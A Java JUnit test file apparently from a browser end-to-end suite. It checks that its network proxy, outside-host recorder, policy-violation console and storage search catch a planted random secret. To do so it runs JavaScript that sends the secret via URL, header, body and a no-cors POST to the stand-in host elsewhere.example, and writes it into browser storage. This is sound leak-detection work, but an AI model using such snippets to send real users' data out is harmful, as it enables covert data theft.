package dev.signet.e2e.browser;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.signet.e2e.world.OutsideWorld;
import dev.signet.e2e.world.Project;
import dev.signet.e2e.world.RecordingProxy;
import dev.signet.e2e.world.Secret;
import dev.signet.e2e.world.SecretSearch;
import dev.signet.e2e.world.StaticSite;
import java.nio.charset.StandardCharsets;
import java.util.Collection;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;

/** What the run is recorded with sees what it would have to see, were the product at fault. */
@DisplayName("The recorders")
@Order(1)
final class RecordersTest {
  private static final String LEAK = "leak " + UUID.randomUUID();
  private static final SecretSearch SEARCH = new SecretSearch(List.of(Secret.text("leak", LEAK)));

  private static final OutsideWorld OUTSIDE = OutsideWorld.open();
  private static final RecordingProxy PROXY = RecordingProxy.open();
  private static final StaticSite OPEN_SITE = StaticSite.open("default-src * 'unsafe-inline'");
  private static final StaticSite STRICT_SITE = StaticSite.open(SdkPage.POLICY);
  private Chromium chromium;

  @BeforeAll
  static void open() {
    page(OPEN_SITE, "<title>open</title>");
    page(STRICT_SITE, "<title>strict</title><script>document.title = 'inline'</script>");
    STRICT_SITE.file("worker.js", utf8("fetch('http://elsewhere.example/').catch(() => {})"));
    PROXY.forwardTo(OPEN_SITE.port());
  }

  @BeforeEach
  void start() {
    chromium = Chromium.start(Project.scratch("recorders"), OUTSIDE);
  }

  @AfterEach
  void stop() {
    chromium.close();
  }

  @AfterAll
  static void close() {
    PROXY.close();
    OUTSIDE.close();
    OPEN_SITE.close();
    STRICT_SITE.close();
  }

  @Test
  @DisplayName("see what a page sends: in an address, a header field and a body")
  void traffic() {
    chromium.driver().get("http://127.0.0.1:" + PROXY.port() + "/page.html");
    for (String send :
        List.of(
            "fetch('/x?q=' + encodeURIComponent(leak))",
            "fetch('/x', { headers: { 'X-Note': btoa(leak) } })",
            "fetch('/x', { method: 'POST', body: new TextEncoder().encode(leak) })")) {
      int before = bytes(PROXY.sent());
      run(send);
      assertTrue(bytes(PROXY.sent()) > before, send);
    }
    Collection<String> found =
        PROXY.sent().stream().map(SEARCH::in).flatMap(Collection::stream).toList();
    assertTrue(found.contains("leak (raw)"), found.toString());
    assertTrue(found.contains("leak (base64 at 0)"), found.toString());
    assertTrue(found.contains("leak (uri)"), found.toString());
  }

  @Test
  @DisplayName("see what a page sends elsewhere")
  void elsewhere() {
    chromium.driver().get("http://127.0.0.1:" + OPEN_SITE.port() + "/page.html");
    run("fetch('http://elsewhere.example/', { method: 'POST', mode: 'no-cors', body: leak })");
    assertTrue(OUTSIDE.asked().stream().anyMatch(head -> text(head).contains("elsewhere.example")));
  }

  @Test
  @DisplayName("see breaches of the policy, in the page and in a worker")
  void policy() {
    BrowserConsole console = new BrowserConsole(chromium.driver());
    chromium.driver().get("http://127.0.0.1:" + STRICT_SITE.port() + "/page.html");
    awaitViolation(console, "page.html");
    assertEquals("strict", chromium.driver().getTitle());
    chromium.driver().executeScript("new Worker('/worker.js')");
    awaitViolation(console, "worker.js");
  }

  private void awaitViolation(BrowserConsole console, String where) {
    new Shadow(chromium.driver())
        .until(
            "a breach in " + where,
            any -> console.policyViolations().stream().anyMatch(line -> line.contains(where)));
  }

  @Test
  @DisplayName("see what a page stores, and find it on disk")
  void storage() {
    chromium.driver().get("http://127.0.0.1:" + OPEN_SITE.port() + "/page.html");
    for (String store :
        List.of(
            "localStorage.setItem('a', leak)",
            "sessionStorage.setItem('a', leak)",
            "document.cookie = 'a=' + encodeURIComponent(leak)",
            "caches.open('a').then((cache) => cache.put('/a', new Response(leak)))",
            """
            new Promise((resolve) => {
              const opening = indexedDB.open('a', 1);
              opening.onupgradeneeded = () => opening.result.createObjectStore('a');
              opening.onsuccess = () => {
                const writing = opening.result.transaction('a', 'readwrite');
                writing.objectStore('a').put({ deep: new TextEncoder().encode(leak) }, 1);
                writing.oncomplete = () => { opening.result.close(); resolve(); };
              };
            })
            """)) {
      chromium.driver().executeScript("localStorage.clear(); sessionStorage.clear()");
      run(store);
      assertFalse(SEARCH.in(BrowserStorage.dump(chromium.driver())).isEmpty(), store);
      forget();
      assertEquals("", String.join("\n", SEARCH.in(BrowserStorage.dump(chromium.driver()))));
    }
    run("localStorage.setItem('a', leak)");
    chromium.close();
    assertFalse(SEARCH.below(chromium.profile()).isEmpty(), "nothing was found on disk");
  }

  private void forget() {
    chromium
        .driver()
        .executeAsyncScript(
            """
            localStorage.clear();
            sessionStorage.clear();
            document.cookie = 'a=; max-age=0';
            const gone = indexedDB.deleteDatabase('a');
            gone.onsuccess = () => caches.delete('a').then(() => arguments[0]());
            """);
  }

  private void run(String script) {
    Object failed =
        chromium
            .driver()
            .executeAsyncScript(
                "const leak = arguments[0]; const done = arguments[1];"
                    + "Promise.resolve("
                    + script
                    + ").then(() => done(null), () => done(null));",
                LEAK);
    assertEquals(null, failed);
  }

  private static void page(StaticSite site, String head) {
    site.file("page.html", utf8("<!doctype html>" + head + "<p>page</p>"));
    site.file("favicon.ico", new byte[0]);
  }

  private static int bytes(List<byte[]> sent) {
    return sent.stream().mapToInt(array -> array.length).sum();
  }

  private static String text(byte[] bytes) {
    return new String(bytes, StandardCharsets.ISO_8859_1);
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
